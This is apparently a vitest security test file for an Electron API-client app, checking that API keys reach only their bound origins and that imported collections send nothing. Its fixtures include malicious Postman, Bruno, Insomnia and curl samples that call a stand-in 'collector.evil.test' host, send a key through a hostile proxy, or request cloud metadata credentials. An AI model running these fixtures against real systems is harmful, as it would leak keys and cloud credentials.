import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createComparisons } from '../../electron/core/compare/comparisons.ts';
import { createHttpClient } from '../../electron/core/http/client.ts';
import { createImportSession } from '../../electron/core/import/import-session.ts';
import { askService } from '../../electron/core/jobs/ask-service.ts';
import { createRunManager } from '../../electron/core/runs/run-manager.ts';
import { createTokenSource } from '../../electron/core/runs/token-source.ts';
import { createSampleWorkspace } from '../../electron/core/workspace/sample-workspace.ts';
import { openWorkspace } from '../../electron/core/workspace/workspace.ts';
import type { Connection, ConnectionEntry } from '../../shared/model/connection.ts';
import type { RequestDraft } from '../../shared/model/request-draft.ts';
import { runCli } from '../support/cli-run.ts';
import { createTemporaryWorkspace } from '../support/cli-workspace.ts';
import { draftOf } from '../support/draft.ts';
import { prepareJob } from '../support/job-run.ts';
import { delay, type LoopbackServer, startLoopbackServer } from '../support/loopback-server.ts';
import { findSecret } from '../support/secret-forms.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { type BoundDoors, openBoundDoors } from './support/bound-doors.ts';
import { loadWithFault } from './support/fault.ts';
import { recordFigure } from './support/gate.ts';
import { watchNetwork } from './support/watch-network.ts';

/**
 * Promise: a key goes to the origins that it is bound to and to no other; the first one of a secret variable, and any
 * further one, are asked about by host and name. What is imported or opened sends nothing.
 */

const KEY = `sk-canary-${randomBytes(16).toString('hex')}`;
const HOME = 'https://api.home.test';

let evil: LoopbackServer;
beforeAll(async () => {
  evil = await startLoopbackServer((_request, response) => response.writeHead(404).end('{}'));
});
afterAll(() => evil.close());

/** Ways to the network by which something got to a place that the keys are not bound to. */
async function leaksOf(doors: BoundDoors): Promise<string[]> {
  const leaks: string[] = [];
  for (const door of [...doors.calls, ...doors.others]) {
    evil.seen.length = 0;
    const watch = watchNetwork();
    const told = await door
      .send(evil.origin)
      .catch((error: Error) => JSON.stringify([error.message, { ...error }]))
      .finally(() => watch.stop());
    if (evil.seen.length > 0 || watch.targets.length > 0) leaks.push(`${door.name}: a connection`);
    if (findSecret(JSON.stringify(evil.seen), KEY).length > 0) leaks.push(`${door.name}: the key`);
    if (findSecret(told, KEY).length > 0) leaks.push(`${door.name}: told`);
    if (door.isSilent !== true && !told.includes(new URL(evil.origin).host))
      leaks.push(`${door.name}: no host in ${told}`);
  }
  return leaks;
}

describe('a key that is bound to another place', () => {
  it('goes nowhere, by no way to the network, and what is told names the host', async () => {
    const doors = await openBoundDoors(KEY, HOME);
    expect(await leaksOf(doors)).toEqual([]);
    expect(doors.questions).toEqual([]);
    recordFigure('key-origins', 'ways to the network that keep a bound key', doors.calls.length + doors.others.length);
    await doors.close();
  });

  it('control: a vault that does not look where a key goes gives it away', async () => {
    const faulty = await loadWithFault<{ openBoundDoors: typeof openBoundDoors }>('test/gates/support/bound-doors.ts', [
      {
        file: 'electron/core/secrets/secret-vault.ts',
        find: 'if (allowed.includes(target)) return;',
        replace: 'return;',
      },
    ]);
    const doors = await faulty.openBoundDoors(KEY, HOME);
    const leaks = await leaksOf(doors);
    await doors.close();
    expect(leaks.filter((leak) => leak.endsWith(': the key')).length).toBeGreaterThanOrEqual(doors.calls.length);
  });
});

describe('a secret that is bound to no place yet', () => {
  it('is asked about by host and name, and goes nowhere when the answer is no', async () => {
    const doors = await openBoundDoors(KEY, null);
    expect(await leaksOf(doors)).toEqual([]);
    const asked = doors.questions.map(({ origin, secretId, variable, allowed }) => [
      origin,
      variable ?? secretId,
      allowed,
    ]);
    expect(asked.length).toBeGreaterThanOrEqual(doors.calls.length);
    expect(asked).toContainEqual([evil.origin, 'token', []]);
    expect(asked).toContainEqual([evil.origin, 'secret-1', []]);
    expect(new Set(asked.map(([origin]) => origin))).toEqual(new Set([evil.origin]));
    await doors.close();
  });

  it('goes to the place that was agreed to, and still to no other', async () => {
    const doors = await openBoundDoors(KEY, null);
    doors.answer = true;
    const [variable] = doors.calls.filter(({ name }) => name.startsWith('a secret variable in the header'));
    evil.seen.length = 0;
    await variable?.send(evil.origin);
    expect(evil.seen[0]?.headers['x-customer-token']).toBe(KEY);
    const other = await startLoopbackServer((_request, response) => response.end());
    await variable?.send(other.origin).catch(() => undefined);
    expect(other.connections).toBe(0);
    await other.close();
    await doors.close();
  });
});

/** A run manager as the app has it, with connections of a workspace that somebody else wrote. */
async function openApp(boundTo = HOME) {
  const doors = await openBoundDoors(KEY, boundTo);
  const client = createHttpClient();
  const clock = { nowMs: () => performance.now(), epochMs: () => Date.now() };
  const to = (baseUrl: string, more: Partial<Connection> = {}): Connection => ({
    sidecall: 2,
    info: { name: 'Theirs' },
    provider: 'openai-compatible',
    baseUrl,
    auth: { type: 'provider' },
    // The id of a key that is on this machine already.
    secret: 'main-key',
    ...more,
  });
  const rules = [{ targets: [{ connection: 'closed' }], fallback: [{ connection: 'theirs' }] }];
  const connections: ConnectionEntry[] = [
    { id: 'theirs', connection: to(`${evil.origin}/v1`) },
    { id: 'closed', connection: to('http://127.0.0.1:1/v1', { auth: { type: 'none' } }) },
    { id: 'route', connection: to('', { provider: 'route', route: { rules } }) },
  ];
  const runs = createRunManager({
    client,
    clock,
    tokens: createTokenSource(client, clock),
    authorize: doors.authorize,
    resolve: ({ connectionId }) => ({
      connection: connections.find(({ id }) => id === connectionId) ?? null,
      scopes: [],
    }),
    emit: () => undefined,
    appVersion: '1.0.0',
  });
  return {
    doors,
    runs,
    clock,
    async close() {
      await runs.shutDown();
      await client.close();
      await doors.close();
    },
  };
}

const chat: RequestDraft = draftOf('openai-compatible/chat.completions', {
  model: 'm',
  messages: [{ role: 'user', content: 'Hi' }],
});

/** What theirs was sent: through the connection itself, through the route, and by a comparison of two columns. */
const keysAtTheirs = () => evil.seen.map(({ headers }) => headers.authorization);

describe('a connection that somebody else wrote, with the id of a key that is here', () => {
  it('gets nothing when it is sent through, by itself or as the fallback of a route', async () => {
    const app = await openApp();
    evil.seen.length = 0;
    for (const connectionId of ['theirs', 'route']) {
      const input = { draft: chat, requestPath: null, connectionId, environmentId: null, slot: connectionId };
      const outcome = await app.runs.makeReady(input).then(
        async (go) => (await go().done).result.error?.message ?? '',
        (error: Error) => error.message,
      );
      expect(outcome).not.toBe('');
      if (connectionId === 'theirs') expect(outcome).toContain(evil.origin);
    }
    expect(evil.seen).toEqual([]);
    await app.close();
  });

  it('gets nothing as the column of a comparison', async () => {
    const app = await openApp();
    evil.seen.length = 0;
    await compareTwo(app);
    expect(evil.seen).toEqual([]);
    await app.close();
  });

  it('would get it, by each of these ways, if the key were bound to it', async () => {
    const app = await openApp(evil.origin);
    evil.seen.length = 0;
    for (const connectionId of ['theirs', 'route']) {
      const input = { draft: chat, requestPath: null, connectionId, environmentId: null, slot: connectionId };
      await (await app.runs.makeReady(input))().done;
    }
    expect(keysAtTheirs()).toEqual([`Bearer ${KEY}`, `Bearer ${KEY}`]);
    await compareTwo(app);
    expect(keysAtTheirs()).toHaveLength(4);
    await app.close();
  });
});

describe('a job that goes on after a restart', () => {
  it('asks nobody but the service that its key is bound to', async () => {
    for (const [boundTo, keys] of [
      [HOME, []],
      [evil.origin, [`Bearer ${KEY}`]],
    ] as const) {
      const doors = await openBoundDoors(KEY, boundTo);
      // As its workspace has the request now, with a connection that leads elsewhere meanwhile.
      const prepared = prepareJob(evil.origin);
      const request = prepared.endpoint.job?.poll({ jobId: '7', baseUrl: prepared.baseUrl, draft: prepared.draft });
      if (request === undefined) throw new Error('no job');
      evil.seen.length = 0;
      const client = createHttpClient();
      const clock = { nowMs: () => performance.now(), epochMs: () => Date.now() };
      const services = { client, clock, tokens: createTokenSource(client, clock), authorize: doors.authorize };
      const answer = await askService(prepared, request, services);
      expect(evil.seen.map(({ headers }) => headers.authorization)).toEqual(keys);
      if (keys.length === 0)
        expect(answer).toMatchObject({ kind: 'unreachable', message: expect.stringContaining(evil.origin) });
      await client.close();
      await doors.close();
    }
  });
});

async function compareTwo({ runs, clock }: Awaited<ReturnType<typeof openApp>>): Promise<void> {
  const estimateCall = (async () => null) as never;
  const comparisons = createComparisons({ runs, clock, emit: () => undefined, estimateCall });
  const column = (name: string) => ({
    slot: `tab#${name}`,
    draft: chat,
    connectionId: 'theirs',
    environmentId: null,
    label: null,
  });
  await comparisons.start({
    path: 'tab',
    requestPath: null,
    options: {},
    columns: [column('a'), column('b')],
    data: null,
  });
  await delay(300);
  comparisons.forgetAll();
}

describe('importing and opening', () => {
  const URL_OF_THEIRS = 'http://collector.evil.test/v1/chat/completions';
  const METADATA_URL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
  const postman = {
    info: { name: 'Theirs', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [
      {
        name: 'Ask',
        request: {
          method: 'POST',
          url: URL_OF_THEIRS,
          auth: { type: 'bearer', bearer: [{ key: 'token', value: '{{OPENAI_API_KEY}}' }] },
          header: [{ key: 'x-key', value: '{{OPENAI_API_KEY}}' }],
          body: { mode: 'raw', raw: '{"model":"m","messages":[]}' },
        },
        event: [{ listen: 'prerequest', script: { exec: [`pm.sendRequest('${URL_OF_THEIRS}')`] } }],
      },
    ],
  };
  const openApi = {
    openapi: '3.0.0',
    info: { title: 'Theirs', version: '1' },
    servers: [{ url: 'http://collector.evil.test' }],
    paths: { '/ask': { get: { responses: { 200: { description: 'ok', $ref: `${URL_OF_THEIRS}#/x` } } } } },
  };
  const har = {
    log: { version: '1.2', entries: [{ request: { method: 'GET', url: URL_OF_THEIRS, headers: [] }, response: {} }] },
  };
  const insomnia = {
    _type: 'export',
    __export_format: 4,
    resources: [
      { _id: 'wrk_1', _type: 'workspace', parentId: null, name: 'Theirs', scope: 'collection' },
      { _id: 'req_1', _type: 'request', parentId: 'wrk_1', name: 'Ask', method: 'GET', url: METADATA_URL },
      { _id: 'req_2', _type: 'request', parentId: 'wrk_1', name: 'Go on', method: 'GET', url: URL_OF_THEIRS },
    ],
  };
  const files = {
    'insomnia.json': JSON.stringify(insomnia),
    'Ask.bru': `meta {\n  name: Ask\n  type: http\n}\n\nget {\n  url: ${METADATA_URL}\n}\n\nscript:pre-request {\n  await fetch('${URL_OF_THEIRS}')\n}\n`,
    'theirs.postman_collection.json': JSON.stringify(postman),
    'openapi.json': JSON.stringify(openApi),
    'theirs.har': JSON.stringify(har),
    'curl.sh': `curl ${URL_OF_THEIRS} -H "authorization: Bearer ${KEY}" -d '{"model":"m","messages":[]}' --proxy http://proxy.evil.test`,
  };

  it('sends nothing and looks up no name', async () => {
    const doors = await openBoundDoors(KEY, HOME);
    const root = join(await temporaryFolder(), 'workspace');
    await createSampleWorkspace(root);
    const workspace = await openWorkspace(root, { onOutsideChange: () => undefined } as never);
    const watch = watchNetwork();
    const session = createImportSession({
      workspace: async () => workspace,
      vault: {
        set: (id, value, origin) => doors.vault.set(id, value, origin),
        read: doors.vault.useSecret.bind(doors.vault),
        delete: (id) => doors.vault.delete(id),
      },
      resolveBaseUrl: (baseUrl) => baseUrl,
    });
    let imported = 0;
    for (const [name, text] of Object.entries(files)) {
      const preview = session.preview([{ name, text }]);
      const requests = preview.requests.map((_request, index) => index);
      const outcome = await session.apply({
        previewId: preview.previewId,
        requests,
        folderPath: 'collections',
        hasEnvironments: true,
      });
      imported += outcome.requests;
    }
    await openWorkspace(root, { onOutsideChange: () => undefined } as never);
    await delay(300);
    watch.stop();
    expect(imported).toBeGreaterThanOrEqual(7);
    expect([watch.targets, watch.lookups]).toEqual([[], []]);
    await doors.close();
  });

  it('control: whatever is sent or looked up is seen', async () => {
    const client = createHttpClient();
    const watch = watchNetwork();
    const timeouts = { connectTimeoutMs: 500, headersTimeoutMs: 0, firstPacketTimeoutMs: 0, idleTimeoutMs: 0 };
    for (const url of ['http://127.0.0.1:9/', 'http://localhost:9/']) {
      await client.send({ method: 'GET', url, headers: [], body: null }, { timeouts, handlers: {} }).done;
    }
    watch.stop();
    await client.close();
    expect([watch.targets, watch.lookups]).toEqual([['127.0.0.1:9', 'localhost:9'], ['localhost']]);
  });
});

describe('the command line', () => {
  it('sends the key of a connection to its own place, and elsewhere only when that place is named', async () => {
    const home = await startLoopbackServer((_request, response) => response.end('{}'));
    const workspace = await createTemporaryWorkspace();
    await workspace.addConnection('home', {
      provider: 'http',
      baseUrl: home.origin,
      auth: { type: 'bearer' },
      secret: 'home-1',
    });
    const send = (file: string, ...more: string[]) =>
      runCli(['send', file, '--secret', 'home=MY_KEY', ...more], { env: { MY_KEY: KEY } });
    const at = (url: string, more: Partial<RequestDraft> = {}) =>
      ({ endpoint: 'http/request', connection: 'home', http: { method: 'GET', url }, ...more }) as never;
    const own = await workspace.addRequest('samples/own', at('/x'));
    const theirs = await workspace.addRequest('samples/theirs', at(`${evil.origin}/x`));
    evil.seen.length = 0;
    const wasSent = await send(own);
    expect(wasSent.code, wasSent.stderr).toBe(0);
    expect(home.seen[0]?.headers.authorization).toBe(`Bearer ${KEY}`);
    const refused = await send(theirs);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain(`The key was not sent: the connection "home" leads to ${home.origin}`);
    expect(refused.stderr).toContain(`--allow-origin ${evil.origin}`);
    expect(evil.seen).toEqual([]);
    const named = await send(theirs, '--allow-origin', evil.origin);
    expect(evil.seen[0]?.headers.authorization, named.stderr).toBe(`Bearer ${KEY}`);
    expect(named.stdout + named.stderr + refused.stderr).not.toContain(KEY);
    await home.close();
    await workspace.remove();
  });
});
